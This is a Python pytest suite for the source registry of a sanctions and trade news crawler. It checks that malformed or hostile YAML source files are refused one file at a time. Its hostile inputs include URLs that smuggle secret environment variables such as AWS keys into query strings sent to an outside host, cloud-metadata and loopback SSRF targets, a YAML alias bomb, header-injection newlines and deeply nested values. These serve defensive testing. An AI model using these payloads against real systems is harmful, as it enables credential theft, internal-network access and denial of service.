"""The source registry: production, demo and fixture registries, and one clear error per bad file."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tradewatch.cli import main
from tradewatch.registry import RegistryInvalid, Source, get_source, load_registry

REPO = Path(__file__).resolve().parents[2]
PRODUCTION = REPO / "include" / "sources"
DEMO = REPO / "demo" / "sources"
DEMO_SITE = REPO / "demo" / "site"
FIXTURES = REPO / "tests" / "fixtures"
VALID = FIXTURES / "sources" / "valid"
INVALID = FIXTURES / "sources" / "invalid"
FIXTURE_SITE = FIXTURES / "site"

TAGS = {"sanctions", "trade", "authority", "news"}

# Each deliberately invalid fixture file and the one field its error must name ("-" = whole file).
INVALID_FIELDS = {
    "unknown_kind.yml": "kind",
    "bad_url.yml": "url",
    "missing_publisher.yml": "publisher",
    "unknown_field.yml": "max_article",
    "html_without_selector.yml": "link_selector",
    "broken_yaml.yml": "-",
    "id_mismatch.yml": "id",
    "undefined_variable.yml": "url",
    "bad_link_pattern.yml": "link_pattern",
    "bad_selector.yml": "article_selector",
}


@pytest.fixture(autouse=True)
def _env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRADEWATCH_TEST_BASE", "http://127.0.0.1:8765")
    monkeypatch.setenv("TRADEWATCH_DEMO_BASE", "http://127.0.0.1:8765")
    monkeypatch.delenv("TRADEWATCH_FIXTURE_UNDEFINED_BASE", raising=False)
    # rich wraps at 80 columns when not on a terminal; keep each error on one line
    monkeypatch.setenv("COLUMNS", "500")


def _host(source: Source) -> str:
    return urlsplit(source.url).hostname or ""


# --- production registry -----------------------------------------------------------------


def test_production_registry_loads_without_errors() -> None:
    sources, errors = load_registry(PRODUCTION)
    assert errors == []
    assert len([s for s in sources if s.enabled]) >= 8


@pytest.mark.parametrize(
    ("authority", "host"),
    [
        ("US Treasury / OFAC", "treasury.gov"),
        ("US Commerce BIS", "bis.gov"),
        ("UK government sanctions", "gov.uk"),
        ("Council of the EU", "consilium.europa.eu"),
        ("UN Security Council", "press.un.org"),
        ("US State Department", "state.gov"),
    ],
)
def test_production_registry_covers_the_authority(authority: str, host: str) -> None:
    sources, _ = load_registry(PRODUCTION)
    found = [
        s for s in sources
        if s.enabled and "sanctions" in s.tags and "authority" in s.tags
        and (_host(s) == host or _host(s).endswith("." + host))
    ]
    assert found, f"no enabled sanctions authority source for {authority} ({host})"


def test_production_registry_has_trade_news_sources() -> None:
    sources, _ = load_registry(PRODUCTION)
    news = [s for s in sources if s.enabled and "news" in s.tags]
    assert len(news) >= 3, [s.id for s in news]
    assert len({_host(s) for s in news}) == len(news), "news sources should be different sites"


def test_production_registry_has_every_kind() -> None:
    sources, _ = load_registry(PRODUCTION)
    assert {s.kind for s in sources if s.enabled} == {"rss", "atom", "html", "sitemap"}


@pytest.mark.parametrize("path", sorted(PRODUCTION.glob("*.yml")), ids=lambda p: p.name)
def test_production_source_is_documented(path: Path) -> None:
    sources, errors = load_registry(PRODUCTION)
    source = next(s for s in sources if s.id == path.stem)
    text = path.read_text(encoding="utf-8")
    assert text.startswith("#"), "open with a comment saying what is in scope and why"
    assert "Scope" in text.split("\nid:")[0], "the header comment should state the scope decision"
    assert urlsplit(source.url).scheme == "https"
    assert "${" not in text, "production URLs are literal, not environment-dependent"
    assert re.search(r"robots", source.terms), "terms should say how robots.txt is handled"
    assert source.tags and set(source.tags) <= TAGS
    if source.kind == "sitemap":
        assert source.link_pattern, "a whole-site sitemap needs a link_pattern to keep only articles"
    if source.kind == "html":
        assert source.link_pattern, "keep only article URLs from the listing's links"


# --- invalid fixtures --------------------------------------------------------------------


def test_every_invalid_fixture_is_covered() -> None:
    assert sorted(p.name for p in INVALID.glob("*.yml")) == sorted(INVALID_FIELDS)


@pytest.mark.parametrize(("name", "field"), sorted(INVALID_FIELDS.items()))
def test_invalid_file_gives_exactly_one_error_naming_file_and_field(tmp_path: Path, name: str, field: str) -> None:
    shutil.copy(INVALID / name, tmp_path / name)
    sources, errors = load_registry(tmp_path)
    assert sources == []
    assert len(errors) == 1, [str(e) for e in errors]
    error = errors[0]
    assert error.file == name
    assert error.field == field
    assert error.message.strip()
    assert str(error).startswith(f"{name}: field '{field}': ")


def test_broken_yaml_error_says_yaml_and_where(tmp_path: Path) -> None:
    shutil.copy(INVALID / "broken_yaml.yml", tmp_path)
    _, [error] = load_registry(tmp_path)
    assert "YAML" in error.message
    assert "line" in error.message


def test_undefined_variable_error_names_the_variable(tmp_path: Path) -> None:
    shutil.copy(INVALID / "undefined_variable.yml", tmp_path)
    _, [error] = load_registry(tmp_path)
    assert "TRADEWATCH_FIXTURE_UNDEFINED_BASE" in error.message


def test_only_the_projects_own_variables_are_expanded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # hostile probe 12: "url: https://x/?k=${AWS_SECRET_ACCESS_KEY}" sent the key to that host and stored it in fetches
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalr-EXAMPLE-SECRET")
    monkeypatch.setenv("TRADEWATCH_TEST_BASE", "http://127.0.0.1:9")
    body = "id: {id}\nname: Leak test\npublisher: X\nkind: rss\nurl: {url}\nterms: test feed\nlanguage: en\n"
    (tmp_path / "leak.yml").write_text(body.format(id="leak", url="http://127.0.0.1:9/feed.xml?k=${AWS_SECRET_ACCESS_KEY}"))
    (tmp_path / "ok.yml").write_text(body.format(id="ok", url="${TRADEWATCH_TEST_BASE}/feed.xml"))
    sources, errors = load_registry(tmp_path)
    assert [s.url for s in sources] == ["http://127.0.0.1:9/feed.xml"]
    [error] = errors
    assert error.file.endswith("leak.yml") and error.field == "url"
    assert "AWS_SECRET_ACCESS_KEY" in error.message and "TRADEWATCH_" in error.message
    assert "EXAMPLE-SECRET" not in str(error)


_LEAK_BODY = "id: {id}\nname: Leak test\npublisher: X\nkind: rss\nurl: \"{url}\"\nterms: test feed\nlanguage: en\n"


@pytest.mark.parametrize("variable, value", [
    ("TRADEWATCH_STORAGE", "s3://AKIAEXAMPLEKEY:wJalrSECRETKEYexample@tradewatch-bucket/staging"),
    ("TRADEWATCH_DUCKDB", "/srv/SECRET-PATH/tradewatch.duckdb"),
    ("TRADEWATCH_MY_TOKEN", "SECRET-TOKEN-123"),  # a user's own variable that names no base URL
])
def test_a_setting_or_other_variable_is_never_expanded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       variable: str, value: str) -> None:
    # hostile probe 26: "?s=${TRADEWATCH_STORAGE}" passed validation and sent the storage keys to the file's host
    monkeypatch.setenv(variable, value)
    monkeypatch.setenv("TRADEWATCH_MIRROR_BASE", "https://mirror.example.org/news")  # a base URL, of any name
    url = f"http://hostile-news.test/feed.xml?s=${{{variable}}}"
    (tmp_path / "exfil.yml").write_text(_LEAK_BODY.format(id="exfil", url=url), encoding="utf-8")
    (tmp_path / "mirror.yml").write_text(_LEAK_BODY.format(id="mirror", url="${TRADEWATCH_MIRROR_BASE}/feed.xml"),
                                         encoding="utf-8")
    sources, [error] = load_registry(tmp_path)
    assert [s.url for s in sources] == ["https://mirror.example.org/news/feed.xml"]
    assert (error.file, error.field) == ("exfil.yml", "url")
    assert "'exfil'" in error.message and variable in error.message and "_BASE" in error.message, error.message
    assert "SECRET" not in str(error)


@pytest.mark.parametrize("value, said", [
    ("http://user:SECRET-PW@mirror.test", "user name or password"),
    ("https://SECRET-TOKEN@mirror.test", "user name or password"),
    ("s3://bucket/SECRET", "not an http(s) base URL"),
    ("SECRET-VALUE", "not an http(s) base URL"),
])
def test_a_base_variable_holding_credentials_or_no_url_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                  value: str, said: str) -> None:
    monkeypatch.setenv("TRADEWATCH_MIRROR_BASE", value)
    (tmp_path / "mirror.yml").write_text(_LEAK_BODY.format(id="mirror", url="${TRADEWATCH_MIRROR_BASE}/feed.xml"),
                                         encoding="utf-8")
    _, [error] = load_registry(tmp_path)
    assert "TRADEWATCH_MIRROR_BASE" in error.message and said in error.message, error.message
    assert "SECRET" not in str(error)


def test_sources_list_masks_the_credentials_of_a_url(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # hostile probe 26: `config` masked a URL's password, `sources list` printed it
    (tmp_path / "private.yml").write_text(
        _LEAK_BODY.format(id="private", url="https://reader:SECRET-PW@feeds.example.org/feed.xml"), encoding="utf-8")
    (tmp_path / "token.yml").write_text(
        _LEAK_BODY.format(id="token", url="https://SECRET-TOKEN@feeds.example.org/feed.xml"), encoding="utf-8")
    assert main(["sources", "list", "--dir", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "feeds.example.org/feed.xml" in out and "***@" in out, out
    assert "SECRET" not in out, out


def test_valid_files_load_next_to_invalid_ones(tmp_path: Path) -> None:
    for path in [*VALID.glob("*.yml"), *INVALID.glob("*.yml")]:
        shutil.copy(path, tmp_path / path.name)
    sources, errors = load_registry(tmp_path)
    assert sorted(s.id for s in sources) == sorted(p.stem for p in VALID.glob("*.yml"))
    assert sorted(e.file for e in errors) == sorted(INVALID_FIELDS)


@pytest.mark.parametrize(("url", "said"), [
    ('"http://127.0.0.1:8765/feed.xml\\nHost: other"', "control character ('\\n'"),
    ('"https://news.example.org/fe\\ted.xml"', "control character ('\\t'"),
    ("'https://news.example.org/sanctions feed.xml'", "a space is %20"),
    ("'https://news.example. org/feed.xml'", "blank"),
    ('"https://news.example.org/news\\u200b-updates"', "invisible"),  # a zero-width space pasted with it
    ('"https://news.example.org/news\\u00a0updates"', "blank"),
    ("https://news.example.org:0/feed.xml", "port must be a number from 1 to 65535"),
    ("https://news.example.org:99999/feed.xml", "port must be a number from 1 to 65535"),
])
def test_a_url_the_crawl_cannot_fetch_as_written_is_the_files_error(tmp_path: Path, url: str, said: str) -> None:
    """Hostile probe 50 F5: such URLs validated, then failed every crawl as 'HTTP 404' (the newline, tab or space
    percent-encoded: 'feed.xml%0AHost:%20other'), 'a URL the HTTP client cannot parse', or 'robots.txt unreachable'
    on port 80 (":0"); now each is its file's error naming the field, and the good sources load."""
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    (tmp_path / "odd.yml").write_text(
        f"id: odd\nname: Odd\npublisher: Odd Ltd\nkind: rss\nterms: t\nurl: {url}\n", encoding="utf-8")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"]
    assert [(e.file, e.field) for e in errors] == [("odd.yml", "url")] and said in errors[0].message, errors


def test_a_source_defined_in_two_files_is_reported_once_and_runs_from_neither(tmp_path: Path) -> None:
    # red team round 5: validation kept x.yaml while the crawl, opening the source by its id, read x.yml
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yaml")
    sources, errors = load_registry(tmp_path)
    assert sources == []
    assert [(e.file, e.field) for e in errors] == [("fixture_news.yml", "id")]
    assert "fixture_news.yaml" in errors[0].message and "keep one" in errors[0].message
    with pytest.raises(RegistryInvalid, match="keep one of the two files"):
        get_source("fixture_news", tmp_path)


def test_a_yaml_alias_bomb_is_refused_without_expanding_it(tmp_path: Path) -> None:
    # nine levels of ten aliases each stand for 10^9 values; expanding them took minutes and gigabytes
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    good = (VALID / "fixture_news.yml").read_text(encoding="utf-8")
    (tmp_path / "laughs.yml").write_text(good.replace("fixture_news", "laughs") + "\n".join(levels) + "\n", encoding="utf-8")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"]
    assert [(e.file, e.field) for e in errors] == [("laughs.yml", "a1")]  # the first key whose value uses one
    assert "alias" in errors[0].message


def test_a_field_written_twice_is_one_error_naming_the_file_and_field(tmp_path: Path) -> None:
    # PyYAML keeps the last of two `url:` lines: a second one added by mistake replaced the first without a word
    good = (VALID / "fixture_news.yml").read_text(encoding="utf-8")
    twice = good.replace("fixture_news", "twice") + "url: https://example.org/other-feed.xml\n"
    (tmp_path / "twice.yml").write_text(twice, encoding="utf-8")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"]
    assert [(e.file, e.field) for e in errors] == [("twice.yml", "url")]
    assert "written twice" in errors[0].message and "keep one" in errors[0].message


# A value nested 2,000 levels deep (4 KB) raised RecursionError out of load_registry: every source failed.
DEEP = {
    "deep_list.yml": "tags: " + "[" * 2000 + "]" * 2000 + "\n",
    "deep_mapping.yml": "tags: " + "{a: " * 2000 + "x" + "}" * 2000 + "\n",
}


@pytest.mark.parametrize("name", sorted(DEEP))
def test_a_deeply_nested_source_file_is_one_error_and_the_others_load(tmp_path: Path, name: str) -> None:
    good = (VALID / "fixture_news.yml").read_text(encoding="utf-8")
    (tmp_path / name).write_text(good.replace("fixture_news", name.removesuffix(".yml")) + DEEP[name], encoding="utf-8")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"]
    assert [(e.file, e.field) for e in errors] == [(name, "tags")]
    assert "nested more than" in errors[0].message


_LOAD_IN_CHILD = """
import json, sys, time
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from tradewatch.registry import load_registry
started = time.perf_counter()
sources, errors = load_registry(Path(sys.argv[2]))
print(json.dumps({"seconds": time.perf_counter() - started, "sources": [s.id for s in sources],
                  "errors": [[e.file, e.field, e.message] for e in errors]}))
"""


def test_a_100_kb_nested_source_file_costs_milliseconds(tmp_path: Path) -> None:
    # 50,000 levels (100 KB, under the 256 KB cap): the alias pre-scan alone took 84 s (PyYAML's scanner keeps one
    # possible key per open "["), then the load raised RecursionError. In a child process: the old code takes minutes.
    import json
    import subprocess
    import sys

    import tradewatch

    (tmp_path / "deep.yml").write_text("id: deep\ntags: " + "[" * 50_000 + "]" * 50_000 + "\n", encoding="utf-8")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    done = subprocess.run(
        [sys.executable, "-c", _LOAD_IN_CHILD, str(Path(tradewatch.__file__).parents[1]), str(tmp_path)],
        capture_output=True, text=True, timeout=30,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    got = json.loads(done.stdout)
    assert got["sources"] == ["fixture_news"]
    assert [e[:2] for e in got["errors"]] == [["deep.yml", "tags"]]
    assert got["seconds"] < 1.0, got


def test_a_source_file_that_is_not_utf8_says_so_and_what_to_do(tmp_path: Path) -> None:
    good = (VALID / "fixture_news.yml").read_text(encoding="utf-8")
    (tmp_path / "latin.yml").write_bytes((good.replace("fixture_news", "latin") + "name: Zürich news\n").encode("latin-1"))
    _, [error] = load_registry(tmp_path)
    assert (error.file, error.field) == ("latin.yml", "-")
    assert "not UTF-8" in error.message and "save the file as UTF-8" in error.message, error.message


def test_a_source_file_that_is_no_regular_file_or_too_large_is_one_error(tmp_path: Path) -> None:
    (tmp_path / "zero.yml").symlink_to("/dev/zero")
    (tmp_path / "huge.yml").write_text("# padding\n" * 40_000, encoding="utf-8")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"]
    assert sorted((e.file, e.field) for e in errors) == [("huge.yml", "-"), ("zero.yml", "-")]
    assert all("cannot read file" in e.message for e in errors)


# --- the sources validate command ---------------------------------------------------------


def test_validate_command_fails_and_names_each_file_and_field(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["sources", "validate", "--dir", str(INVALID)])
    out = capsys.readouterr().out
    assert code == 1
    lines = out.splitlines()
    for name, field in INVALID_FIELDS.items():
        assert any(name in line and f"field '{field}'" in line for line in lines), (name, field, out)
    assert f"{len(INVALID_FIELDS)} error(s)" in out


def test_validate_command_names_a_deeply_nested_file_and_its_field(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # it printed only "error: maximum recursion depth exceeded", naming no file
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    (tmp_path / "deep.yml").write_text("id: deep\ntags: " + "[" * 2000 + "]" * 2000 + "\n", encoding="utf-8")
    code = main(["sources", "validate", "--dir", str(tmp_path)])
    out = capsys.readouterr().out
    assert code == 1
    assert "deep.yml: field 'tags': nested more than" in out, out
    assert "1 valid source(s), 1 error(s)" in out and "Fix the fields named above" in out


def test_validate_command_passes_on_valid_registry(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["sources", "validate", "--dir", str(VALID)])
    out = capsys.readouterr().out
    assert code == 0, out
    assert "3 valid source(s), 0 error(s)" in out


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://[::1]:8080/", "http://10.0.0.5/feed",
                                 "http://localhost.:8080/feed", "http://metadata.google.internal/computeMetadata/v1/"])
def test_validate_command_warns_of_a_source_on_an_internal_host_unless_allowed(
        url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    # hostile probe 26: a contributed source pointing at cloud metadata or loopback was "valid" without a word
    monkeypatch.delenv("TRADEWATCH_ALLOW_INTERNAL_SOURCES", raising=False)
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    monkeypatch.setenv("TRADEWATCH_TEST_BASE", "https://news.example.org")
    body = "id: inside\nname: Inside\npublisher: X\nkind: rss\nurl: \"{url}\"\nterms: test feed\n"
    (tmp_path / "inside.yml").write_text(body.format(url=url), encoding="utf-8")
    assert main(["sources", "validate", "--dir", str(tmp_path)]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "warning inside: field 'url': its URL's host is internal" in out, out
    assert "TRADEWATCH_ALLOW_INTERNAL_SOURCES=yes" in out and "2 valid source(s), 0 error(s), 1 warning(s)" in out
    assert "fixture_news" not in out  # a public source is no warning

    monkeypatch.setenv("TRADEWATCH_ALLOW_INTERNAL_SOURCES", "yes")
    assert main(["sources", "validate", "--dir", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "warning" not in out and "2 valid source(s), 0 error(s)" in out, out


def test_validate_command_prints_yaml_errors_verbatim(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copy(INVALID / "broken_yaml.yml", tmp_path)
    main(["sources", "validate", "--dir", str(tmp_path)])
    assert "tags: [sanctions, news" in capsys.readouterr().out


# --- demo and fixture registries point into their sites ------------------------------------


def _site_file(site: Path, url: str) -> Path:
    path = urlsplit(url).path
    return site / path.lstrip("/")


@pytest.mark.parametrize(("folder", "site"), [(DEMO, DEMO_SITE), (VALID, FIXTURE_SITE)], ids=["demo", "fixture"])
def test_local_registry_points_into_its_site(folder: Path, site: Path) -> None:
    sources, errors = load_registry(folder)
    assert errors == []
    assert {s.kind for s in sources} >= {"rss", "html", "sitemap"}
    for source in sources:
        assert source.url.startswith("http://127.0.0.1:8765/"), "URLs come from the ${...} base variable"
        assert _site_file(site, source.url).is_file(), source.url


@pytest.mark.parametrize(("folder", "site"), [(DEMO, DEMO_SITE), (VALID, FIXTURE_SITE)], ids=["demo", "fixture"])
def test_html_listings_select_article_links(folder: Path, site: Path) -> None:
    from bs4 import BeautifulSoup

    sources, _ = load_registry(folder)
    for source in [s for s in sources if s.kind == "html"]:
        assert source.link_selector
        soup = BeautifulSoup(_site_file(site, source.url).read_text(encoding="utf-8"), "html.parser")
        hrefs = [str(a["href"]) for a in soup.select(source.link_selector)]
        if source.link_pattern:
            hrefs = [h for h in hrefs if re.search(source.link_pattern, h)]
        assert len(hrefs) >= 2, (source.id, hrefs)
        assert all(h.startswith("/") for h in hrefs), "listings use root-relative links"


@pytest.mark.parametrize("site", [DEMO_SITE, FIXTURE_SITE], ids=["demo", "fixture"])
def test_site_robots_disallows_a_linked_path(site: Path) -> None:
    import urllib.robotparser

    parser = urllib.robotparser.RobotFileParser()
    parser.parse((site / "robots.txt").read_text(encoding="utf-8").splitlines())
    listings = [p for p in site.rglob("*.html") if "href=" in p.read_text(encoding="utf-8")]
    disallowed = [
        href
        for p in listings
        for href in re.findall(r'href="(/[^"]+)"', p.read_text(encoding="utf-8"))
        if not parser.can_fetch("TradewatchBot", "http://127.0.0.1:8765" + href)
    ]
    assert disallowed, "one listed link should be disallowed by robots.txt"


def test_settings_follow_the_environment_at_once(monkeypatch, tmp_path):
    # get_settings is cached, but keyed on the TRADEWATCH_* variables: a change is seen on the next call
    from tradewatch.settings import get_settings

    monkeypatch.setenv("TRADEWATCH_DATA_DIR", str(tmp_path / "one"))
    first = get_settings()
    assert first.data_dir == (tmp_path / "one").resolve()
    assert get_settings() is first
    monkeypatch.setenv("TRADEWATCH_DATA_DIR", str(tmp_path / "two"))
    monkeypatch.setenv("TRADEWATCH_MAX_ARTICLES", "7")
    second = get_settings()
    assert second.data_dir == (tmp_path / "two").resolve() and second.max_articles_per_source == 7
    monkeypatch.delenv("TRADEWATCH_MAX_ARTICLES")
    assert get_settings().max_articles_per_source == 50


def test_a_file_name_ending_in_a_newline_is_no_source_id(tmp_path: Path) -> None:
    # hostile probe 4: "nl\n.yml" passed validation ("$" accepts a final newline), then failed the crawl outside its
    # error handling, when the id became a staging path part
    text = "\n".join(line for line in (VALID / "fixture_news.yml").read_text().splitlines() if not line.startswith("id:"))
    (tmp_path / "nl\n.yml").write_text(text + "\n")
    sources, errors = load_registry(tmp_path)
    assert sources == []
    assert [e.field for e in errors] == ["id"]


@pytest.mark.parametrize("char", ["\x00", "\x1b"], ids=["NUL", "ESC"])
def test_a_control_character_in_one_file_is_that_file_s_error_only(tmp_path: Path, char: str) -> None:
    # hostile probe 9: PyYAML refused the character while building its reader, outside the per-file error handling, and
    # the bare ReaderError stopped every source
    good = (VALID / "fixture_news.yml").read_text(encoding="utf-8")
    (tmp_path / "pasted.yml").write_text(good.replace("fixture_news", "pasted").replace("name:", f"name: x{char}", 1),
                                         encoding="utf-8")
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"]
    assert [e.file for e in errors] == ["pasted.yml"]
    assert "control character" in errors[0].message


def test_a_registry_path_that_is_a_file_or_a_link_loop_says_so_and_what_to_set(tmp_path: Path) -> None:
    # hostile probe 14: a file was "does not exist", a symlink loop a bare "Symlink loop from ..."
    from tradewatch.registry import load_registry

    afile = tmp_path / "afile"
    afile.write_text("x")
    (tmp_path / "l1").symlink_to(tmp_path / "l2")
    (tmp_path / "l2").symlink_to(tmp_path / "l1")
    for path, said in ((afile, "is a file, not a folder"), (tmp_path / "l1", "cannot be read"),
                       (tmp_path / "missing", "does not exist: create it")):
        sources, errors = load_registry(path)
        assert sources == [] and len(errors) == 1
        assert said in str(errors[0]) and "TRADEWATCH_SOURCES_DIR" in str(errors[0]), errors


@pytest.mark.parametrize("value", ["0123", "yes", "1.5"])
def test_a_value_yaml_reads_as_a_number_or_yes_no_says_to_quote_it(tmp_path: Path, value: str) -> None:
    # hostile probe 19: "Input should be a valid string", and no hint why
    (tmp_path / "odd.yml").write_text(f"id: odd\nname: {value}\nkind: rss\nurl: https://example.org/feed.xml\n"
                                      "publisher: Example\n")
    _sources, errors = load_registry(tmp_path)
    named = [e for e in errors if e.field == "name"]
    assert len(named) == 1 and "put the value in quotes" in named[0].message, errors


def test_validate_fails_a_folder_without_sources_and_names_upper_case_extensions(tmp_path, capsys) -> None:
    # hostile probe 22: "sources validate --dir /etc" passed (0 sources, exit 0); "X.YML" was skipped without a word;
    # a missing folder's message named "--registry" (an option of another command) and "field '-'"
    from tradewatch.cli import main

    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["sources", "validate", "--dir", str(empty)]) == 1
    assert "No source file" in " ".join(capsys.readouterr().out.split())
    shouting = tmp_path / "shouting"
    shouting.mkdir()
    (shouting / "Feed.YML").write_text("id: feed\n", encoding="utf-8")
    assert main(["sources", "validate", "--dir", str(shouting)]) == 1
    assert "rename it to Feed.yml" in " ".join(capsys.readouterr().out.split())
    assert main(["sources", "validate", "--dir", str(tmp_path / "none")]) == 1
    out = " ".join(capsys.readouterr().out.split())
    assert "--dir" in out and "--registry" not in out and "field '-'" not in out


@pytest.mark.parametrize("hidden", [".draft.yml", ".#eu_council_press.yml", ".eu_council_press.yml.swp",
                                    ".OLD.YML", "eu_council_press.yml~", "eu_council_press.yaml~"])
def test_hidden_and_editor_files_are_no_sources(tmp_path: Path, hidden: str) -> None:
    # (hostile probe 47 F4: an editor's lock or backup file beside the source it edits was read as a second source)
    shutil.copy(VALID / "fixture_news.yml", tmp_path / "fixture_news.yml")
    (tmp_path / hidden).write_text("id: [not, a, source\n", encoding="utf-8")
    sources, errors = load_registry(tmp_path)
    assert [s.id for s in sources] == ["fixture_news"] and errors == []
